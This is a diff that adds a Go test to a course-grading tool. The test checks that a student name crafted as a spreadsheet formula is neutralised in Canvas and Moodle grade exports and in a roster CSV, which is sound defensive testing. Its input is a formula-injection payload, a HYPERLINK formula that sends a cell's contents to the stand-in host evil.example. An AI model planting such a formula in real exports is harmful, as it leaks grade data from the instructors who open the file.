@@ -1,11 +1,17 @@
 package lms
 
 import (
+	"bytes"
+	"encoding/csv"
 	"fmt"
 	"os"
 	"path/filepath"
+	"reflect"
 	"strings"
 	"testing"
+
+	"github.com/cudalessons/lessons/internal/gradebook"
+	"github.com/cudalessons/lessons/internal/roster"
 )
 
 // A zip of the class's folder made as zip -r makes it: each folder has
@@ -69,6 +75,66 @@ func TestAttackBudgetInAFolderOfTheClassFolder(t *testing.T) {
 	for _, n := range notes {
 		if n.Kind == Refused && !strings.Contains(n.File, "mallory") {
 			t.Errorf("refused: %+v", n)
+		}
+	}
+}
+
+// A Moodle user edits their own full name (Moodle's default lets them):
+// one that is a spreadsheet formula reaches the download's folder name,
+// then the LMS imports export writes and the roster grade unpack writes,
+// which an instructor opens in a spreadsheet before importing. No cell
+// of them may start as a formula, and the roster reads back the name.
+func TestAttackFormulaInAMoodleName(t *testing.T) {
+	evil := `=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?"&B2,"Grades")`
+	src := writeZip(t,
+		entry{name: evil + "_444_assignsubmission_file_/async_pipeline.cu", data: "// mallory\n" + pipeDone},
+		entry{name: "John Smith_111_assignsubmission_file_/async_pipeline.cu", data: "// john\n" + pipeDone},
+	)
+	cl, _ := arrangeQuiet(t, src, nil)
+	if len(cl.People) != 2 || cl.People[0].Name != evil {
+		t.Fatalf("people: %+v", cl.People)
+	}
+	people := map[string]gradebook.Person{}
+	var ids []string
+	for _, p := range cl.People {
+		people[p.ID] = p
+		ids = append(ids, p.ID)
+	}
+	s := &gradebook.Sheet{Exercises: []gradebook.Exercise{{ID: "async-pipeline", Points: 10}}, Students: ids, Max: 10,
+		Grades: map[string]map[string]*gradebook.Attempt{}}
+	e := Export{Sheet: s, People: people, Columns: PerExercise}
+	for _, system := range []string{"canvas", "moodle"} {
+		var b bytes.Buffer
+		if _, err := e.Write(system, &b); err != nil {
+			t.Fatal(err)
+		}
+		noFormula(t, system, b.Bytes())
+	}
+	var b bytes.Buffer
+	if err := roster.Write(&b, cl.People); err != nil {
+		t.Fatal(err)
+	}
+	noFormula(t, "roster", b.Bytes())
+	back, err := roster.Read(bytes.NewReader(b.Bytes()), "roster.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(back, cl.People) {
+		t.Errorf("the roster read back is not what was written:\n%+v\n%+v", back, cl.People)
+	}
+}
+
+func noFormula(t *testing.T, what string, data []byte) {
+	t.Helper()
+	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		for _, c := range row {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("%s: a cell starts as a formula: %q", what, c)
+			}
 		}
 	}
 }
